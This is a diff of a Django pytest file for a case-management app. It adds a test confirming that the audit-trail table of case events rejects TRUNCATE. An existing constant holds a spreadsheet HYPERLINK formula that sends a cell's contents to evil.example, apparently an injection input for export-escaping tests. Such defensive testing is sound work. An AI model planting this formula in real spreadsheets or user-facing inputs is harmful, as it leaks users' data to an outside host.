@@ -5,13 +5,14 @@ import io
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
+from django.db import DatabaseError, connection, transaction
 from django.test import override_settings
 from openpyxl import load_workbook
 from PIL import Image
 
-from cases.models import Attachment, Case
+from cases.models import Attachment, Case, CaseEvent
 from core.clients import client_address
-from tests.cases.conftest import STATION_A, act, new_case
+from tests.cases.conftest import STATION_A, act, new_case, requires_postgres
 
 pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"点此")'
@@ -215,3 +216,13 @@ def test_reference_data_changes_are_recorded_with_who_and_when(admin_client, adm
     assert GridUserObjectPermission.history.filter(user_id=cast.worker_a.pk, history_type="-").count() == 1
     assert GridUserObjectPermission.history.filter(user_id=cast.worker_a.pk, history_type="+").exists()
     assert admin_client.get("/admin/grids/historicalgriduserobjectpermission/").status_code == 200
+
+
+@requires_postgres
+def test_the_case_trail_refuses_truncate_too(cast):
+    case = new_case(cast.worker_a)
+    with pytest.raises(DatabaseError, match="append-only"), transaction.atomic(), connection.cursor() as cursor:
+        cursor.execute("SET CONSTRAINTS ALL IMMEDIATE")  # the test's own inserts leave deferred checks pending
+        cursor.execute("SET LOCAL haidian.allow_truncate = 'off'")  # what a production connection has
+        cursor.execute("TRUNCATE cases_caseevent")
+    assert CaseEvent.objects.filter(case=case).count() == 1
